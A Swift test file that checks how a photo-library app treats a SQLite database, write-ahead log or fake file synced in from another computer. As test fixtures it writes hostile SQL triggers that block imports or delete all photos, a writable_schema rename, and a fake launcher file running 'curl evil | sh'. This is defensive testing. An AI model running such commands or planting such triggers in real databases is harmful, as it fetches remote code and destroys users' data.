// A database is the index this computer made, or none: one another computer made, arriving as
// Syncthing brings it before the library's `.stignore` exists, is moved aside and the index made
// again from the sidecars; a log from elsewhere is never replayed; and a schema holding what no
// migration makes is refused by name. The hostile databases are made here, by another "computer":
// a library made under another data folder, whose database names another machine.
import Foundation
import SnapshelfModel
import SnapshelfTestSupport
import XCTest

final class ForeignDatabaseTests: LibraryTestCase {
    private var database: URL { directory.appendingPathComponent("library.sqlite3") }

    /// Makes a library of labelled photos in `peer` as another computer would: under a data folder
    /// of its own, so its database has no token of this one's, and naming another machine.
    /// `whileOpen` runs while the peer's library is still open, its changes in the log.
    private func peerLibrary(_ peer: URL, labels: [String], whileOpen: (URL) throws -> Void = { _ in }) throws {
        let ours = ProcessInfo.processInfo.environment["XDG_DATA_HOME"]
        setenv("XDG_DATA_HOME", folder.url.appendingPathComponent("peer-data").path, 1)
        defer { if let ours { setenv("XDG_DATA_HOME", ours, 1) } else { unsetenv("XDG_DATA_HOME") } }
        let library = try Library(directory: peer)
        for (label, photo) in zip(labels, SamplePhotos.cameras) {
            _ = try library.add(try candidate(photo), label: try Label(label))
        }
        try LibraryFixture.execute("UPDATE machine SET host = 'the-peer-s-machine-id'", in: peer.appendingPathComponent("library.sqlite3"))
        try whileOpen(peer)
    }

    /// A trigger that makes every import fail, as a hostile peer would add.
    private static let hostileTrigger = "CREATE TRIGGER no_more_imports BEFORE INSERT ON photos BEGIN SELECT RAISE(ABORT, 'owned'); END;"

    /// The databases set aside under the tag, without their companions.
    private func asideFiles(_ tag: String) throws -> [String] {
        try FileManager.default.contentsOfDirectory(atPath: directory.path).filter {
            $0.hasPrefix("library.sqlite3.\(tag)-") && !["-wal", "-shm", "-journal"].contains(where: $0.hasSuffix)
        }.sorted()
    }

    /// What makes a database of today's schema one of version 8, which named no computer.
    private static let asVersion8 = """
        DROP TABLE maker; DROP TABLE machine; DROP TABLE seen_files; DROP TABLE set_aside_files; DROP TABLE pending_dates;
        ALTER TABLE photos DROP COLUMN taken_clock_ms; ALTER TABLE photos DROP COLUMN taken_offset_min; PRAGMA user_version = 8;
        """

    /// Puts the peer's photos, sidecars and database in the library's folder, under a folder
    /// Syncthing shares: the library's own, or `sharedAbove`.
    private func arrive(from peer: URL, sharedAbove: Bool = false) throws {
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        let shared = sharedAbove ? directory.deletingLastPathComponent() : directory
        FileManager.default.createFile(atPath: shared.appendingPathComponent(".stfolder").path, contents: nil)
        try FileManager.default.copyItem(at: peer.appendingPathComponent("photos"), to: directory.appendingPathComponent("photos"))
        try FileManager.default.copyItem(at: peer.appendingPathComponent("library.sqlite3"), to: database)
    }

    func testADatabaseFromBeforeVersion9InASharedFolderIsMadeAgainFromTheSidecarsNotTaken() throws {
        let peer = folder.url.appendingPathComponent("peer")
        try peerLibrary(peer, labels: ["Lake"])
        try LibraryFixture.execute(Self.asVersion8 + "UPDATE photos SET label = 'PEER SAYS HI';", in: peer.appendingPathComponent("library.sqlite3"))
        try arrive(from: peer, sharedAbove: true)

        XCTAssertEqual(try Library(directory: directory).photos().map(\.label), ["Lake"], "the peer's rows were taken")
        XCTAssertEqual(try asideFiles("from-elsewhere").count, 1)
    }

    func testADatabaseFromBeforeSidecarsInASharedFolderIsRefusedAndKeptWhereItIs() throws {
        let peer = folder.url.appendingPathComponent("peer")
        try peerLibrary(peer, labels: ["Lake"])
        try LibraryFixture.execute(Self.asVersion8 + "PRAGMA user_version = 4;", in: peer.appendingPathComponent("library.sqlite3"))
        try arrive(from: peer)
        let before = try Data(contentsOf: database)

        XCTAssertThrowsError(try Library(directory: directory)) { error in
            guard case .olderDatabaseInSharedFolder(let file, version: 4, let shared)? = error as? LibraryError else { return XCTFail("\(error)") }
            XCTAssertEqual([file.path, shared.standardizedFileURL.path], [database.path, directory.standardizedFileURL.path])
        }
        XCTAssertEqual(try Data(contentsOf: database), before, "its labels are in it alone")
        XCTAssertEqual(try asideFiles("from-elsewhere"), [])
    }

    /// Spoils the page where the database keeps its token, as a peer would to have it left unjudged.
    private func spoilTokenPage(of file: URL) throws {
        try LibraryFixture.execute("PRAGMA wal_checkpoint(TRUNCATE)", in: file)
        let page = try LibraryFixture.integer("PRAGMA page_size", in: file)
        let root = try LibraryFixture.integer("SELECT rootpage FROM sqlite_master WHERE name = 'maker'", in: file)
        let handle = try FileHandle(forUpdating: file)
        try handle.seek(toOffset: UInt64((root - 1) * page))
        try handle.write(contentsOf: Data(repeating: 0xA5, count: page))
        try handle.close()
    }

    func testADatabaseWhoseTokenCannotBeReadIsNeverUsedAsItIs() throws {
        let peer = folder.url.appendingPathComponent("peer")
        try peerLibrary(peer, labels: ["Lake"])
        try LibraryFixture.execute("UPDATE machine SET host = 'peer'; UPDATE photos SET label = 'PEER SAYS HI'",
                                   in: peer.appendingPathComponent("library.sqlite3"))
        try spoilTokenPage(of: peer.appendingPathComponent("library.sqlite3"))
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        try FileManager.default.copyItem(at: peer.appendingPathComponent("library.sqlite3"), to: database)
        try FileManager.default.copyItem(at: peer.appendingPathComponent("photos"), to: directory.appendingPathComponent("photos"))

        // Where no peer can have put it, it is this computer's, damaged: refused, with the rebuild.
        XCTAssertThrowsError(try Library(directory: directory)) { error in
            XCTAssertTrue((error as? LibraryError)?.isMendedByRebuild == true, "\(error)")
        }
        XCTAssertEqual(try asideFiles("from-elsewhere"), [])

        FileManager.default.createFile(atPath: directory.appendingPathComponent(".stfolder").path, contents: nil)
        let library = try Library(directory: directory)
        XCTAssertEqual(try library.photos().map(\.label), ["Lake"], "the peer's database was used as it is")
        XCTAssertEqual(try asideFiles("from-elsewhere").count, 1)
    }

    func testACopyThatIsNoPhotoBesideADatabaseFromElsewhereIsSetAsideByTheRebuild() throws {
        let peer = folder.url.appendingPathComponent("peer")
        try peerLibrary(peer, labels: ["Lake"])
        let photos = peer.appendingPathComponent("photos")
        let sidecar = try XCTUnwrap(try FileManager.default.contentsOfDirectory(atPath: photos.path).first { $0.hasSuffix(".xmp") })
        let fake = photos.appendingPathComponent(String(repeating: "1", count: 64) + ".jpeg")
        try Data("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n".utf8).write(to: fake)
        let text = try String(contentsOf: photos.appendingPathComponent(sidecar), encoding: .utf8)
        try text.replacingOccurrences(of: "Lake", with: "Launcher").write(to: URL(fileURLWithPath: fake.path + ".xmp"), atomically: true, encoding: .utf8)
        try arrive(from: peer)

        let library = try Library(directory: directory)

        XCTAssertEqual(try library.photos().map(\.label), ["Lake"], "the peer's file was taken as a photo")
        let kept = directory.appendingPathComponent("photos").appendingPathComponent(fake.lastPathComponent)
        XCTAssertTrue(FileManager.default.fileExists(atPath: kept.path), "set aside where it is, never deleted")
        let findings = try library.check()
        XCTAssertTrue(findings.contains {
            if case .setAside(let file, why: .otherContent) = $0 { file.path == kept.path } else { false }
        }, "\(findings)")
    }

    func testARebuildStillRestoresEveryLabel() throws {
        do {
            let library = try Library(directory: directory)
            for (label, photo) in zip(["Lake", "Hill", "Sea"], SamplePhotos.cameras) {
                _ = try library.add(try candidate(photo), label: try Label(label))
            }
        }

        let report = try LibraryRebuild.run(directory: directory)

        XCTAssertEqual(report.photos, 3)
        XCTAssertEqual(try Library(directory: directory).photos().map(\.label), ["Lake", "Hill", "Sea"])
        XCTAssertTrue(try Library(directory: directory).check().isEmpty)
    }

    func testADatabaseFromAnotherComputerArrivingBeforeTheFirstOpenIsSetAsideAndTheIndexMadeFromTheSidecars() throws {
        let peer = folder.url.appendingPathComponent("peer")
        try peerLibrary(peer, labels: ["Lake", "Hill"])
        try LibraryFixture.execute(Self.hostileTrigger, in: peer.appendingPathComponent("library.sqlite3"))
        // What Syncthing delivers into a folder it shares before Snapshelf wrote its `.stignore`.
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        FileManager.default.createFile(atPath: directory.appendingPathComponent(".stfolder").path, contents: nil)
        try FileManager.default.copyItem(at: peer.appendingPathComponent("photos"), to: directory.appendingPathComponent("photos"))
        try FileManager.default.copyItem(at: peer.appendingPathComponent("library.sqlite3"), to: database)

        let library = try Library(directory: directory)

        XCTAssertEqual(try library.photos().map(\.label), ["Lake", "Hill"], "the labels come back from the sidecars")
        XCTAssertNoThrow(try library.add(try candidate(SamplePhotos.cameras[2]), label: try Label("Sea")), "imports work again")
        let aside = try asideFiles("from-elsewhere")
        XCTAssertEqual(aside.count, 1, "\(aside)")
        let kept = directory.appendingPathComponent(try XCTUnwrap(aside.first))
        XCTAssertEqual(try LibraryFixture.integer("SELECT count(*) FROM sqlite_master WHERE name = 'no_more_imports'", in: kept), 1,
                       "the peer's database is kept as it came")
        XCTAssertTrue(library.openingNotes.contains(.foreignDatabaseSetAside(kept, rebuiltPhotos: 2)), "\(library.openingNotes)")
        let ignored = try String(contentsOf: directory.appendingPathComponent(".stignore"), encoding: .utf8)
        XCTAssertTrue(ignored.split(separator: "\n").contains("(?d)/library.sqlite3.*"), "the copy set aside would sync: \(ignored)")
        XCTAssertEqual(try Library(directory: directory).photos().map(\.label), ["Lake", "Hill", "Sea"], "and the next open keeps it")
    }

    func testALogFromElsewhereBesideNoDatabaseIsSetAsideNotReplayed() throws {
        let peer = folder.url.appendingPathComponent("peer")
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        try peerLibrary(peer, labels: ["Lake"]) { peer in
            try LibraryFixture.execute(Self.hostileTrigger, in: peer.appendingPathComponent("library.sqlite3"))
            try FileManager.default.copyItem(at: peer.appendingPathComponent("library.sqlite3-wal"),
                                             to: directory.appendingPathComponent("library.sqlite3-wal"))
        }

        let library = try Library(directory: directory)

        XCTAssertNoThrow(try library.add(try candidate(SamplePhotos.cameras[2]), label: try Label("Sea")))
        XCTAssertEqual(try library.photos().map(\.label), ["Sea"])
        let aside = try FileManager.default.contentsOfDirectory(atPath: directory.path).filter { $0.hasPrefix("library.sqlite3.from-elsewhere-") }
        XCTAssertEqual(aside.count, 1, "\(aside)")
        XCTAssertTrue(aside.first?.hasSuffix("-wal") == true, "\(aside)")
    }

    func testATriggerOrViewAddedToThisComputersDatabaseIsRefusedByName() throws {
        for (name, sql) in [("no_more_imports", Self.hostileTrigger),
                            ("forget", "CREATE TRIGGER forget AFTER UPDATE ON photos BEGIN DELETE FROM photos; END;"),
                            ("everything", "CREATE VIEW everything AS SELECT * FROM photos"),
                            ("photos", "ALTER TABLE photos ADD COLUMN spy TEXT CHECK (spy IS NULL)"),
                            // SQLite loads any name written into its schema, its own prefix too.
                            ("sqlite_evil", """
                             CREATE UNIQUE INDEX evil ON photos (label); PRAGMA writable_schema = ON;
                             UPDATE sqlite_master SET name = 'sqlite_evil', sql = 'CREATE UNIQUE INDEX sqlite_evil ON photos (label)'
                             WHERE name = 'evil';
                             """)] {
            try? FileManager.default.removeItem(at: directory)
            _ = try Library(directory: directory).add(try candidate(SamplePhotos.cameras[0]), label: try Label("kept"))
            try LibraryFixture.execute(sql, in: database)

            XCTAssertThrowsError(try Library(directory: directory), name) { error in
                guard case .database(.unknownSchema(let named, more: 0), during: .openingDatabase(database))? = error as? LibraryError else {
                    return XCTFail("\(name): \(error)")
                }
                XCTAssertEqual(named.count, 1)
                XCTAssertTrue(named.first?.contains("“\(name)”") == true, "\(named)")
                XCTAssertTrue((error as? LibraryError)?.isMendedByRebuild == true)
            }
            XCTAssertEqual(try LibraryFixture.integer("SELECT count(*) FROM photos", in: database), 1, "\(name): nothing was lost")
        }
    }

    func testSQLitesOwnStatisticsAndConstraintIndexesPassTheSchemaCheck() throws {
        _ = try Library(directory: directory).add(try candidate(SamplePhotos.cameras[0]), label: try Label("kept"))
        try LibraryFixture.execute("ANALYZE", in: database)
        XCTAssertGreaterThan(try LibraryFixture.integer("SELECT count(*) FROM sqlite_master WHERE name LIKE 'sqlite_stat%'", in: database), 0)
        XCTAssertGreaterThan(try LibraryFixture.integer("SELECT count(*) FROM sqlite_master WHERE name LIKE 'sqlite_autoindex_%'", in: database), 0)

        XCTAssertEqual(try Library(directory: directory).photos().map(\.label), ["kept"])
    }

    func testAnOlderDatabaseOfThisComputerIsTakenOnceAndAnotherComputersIsNot() throws {
        _ = try Library(directory: directory).add(try candidate(SamplePhotos.cameras[0]), label: try Label("mine"))
        // As Snapshelf left it before tokens: schema 10, with this computer's machine ID.
        try LibraryFixture.execute("DROP TABLE maker; PRAGMA user_version = 10;", in: database)

        XCTAssertEqual(try Library(directory: directory).photos().map(\.label), ["mine"])
        XCTAssertEqual(try LibraryFixture.integer("SELECT count(*) FROM maker", in: database), 1, "it got its token")
        XCTAssertEqual(try Library(directory: directory).openingNotes, [])
        XCTAssertEqual(try asideFiles("from-elsewhere"), [])

        try LibraryFixture.execute("DROP TABLE maker; PRAGMA user_version = 10; UPDATE machine SET host = 'another-machine-id'",
                                   in: database)
        XCTAssertEqual(try Library(directory: directory).photos().map(\.label), ["mine"], "made again from its sidecar")
        XCTAssertEqual(try asideFiles("from-elsewhere").count, 1)
    }

    func testThisComputersDatabaseMadeUnderAnotherDataFolderIsTakenAsItIs() throws {
        _ = try Library(directory: directory).add(try candidate(SamplePhotos.cameras[0]), label: try Label("mine"))
        let ours = ProcessInfo.processInfo.environment["XDG_DATA_HOME"]
        setenv("XDG_DATA_HOME", folder.url.appendingPathComponent("flatpak-data").path, 1)
        defer { if let ours { setenv("XDG_DATA_HOME", ours, 1) } else { unsetenv("XDG_DATA_HOME") } }

        let library = try Library(directory: directory)

        XCTAssertEqual(try library.photos().map(\.label), ["mine"])
        XCTAssertEqual(library.openingNotes, [])
        XCTAssertEqual(try asideFiles("from-elsewhere"), [])
    }

    func testALibraryCopiedElsewhereOnThisComputerStillOpensAsItIs() throws {
        _ = try Library(directory: directory).add(try candidate(SamplePhotos.cameras[0]), label: try Label("moved"))
        let copy = folder.url.appendingPathComponent("copy")
        try FileManager.default.copyItem(at: directory, to: copy)

        let library = try Library(directory: copy)

        XCTAssertEqual(try library.photos().map(\.label), ["moved"])
        XCTAssertEqual(library.openingNotes, [])
        XCTAssertFalse(try FileManager.default.contentsOfDirectory(atPath: copy.path).contains { $0.contains("from-elsewhere") })
    }
}
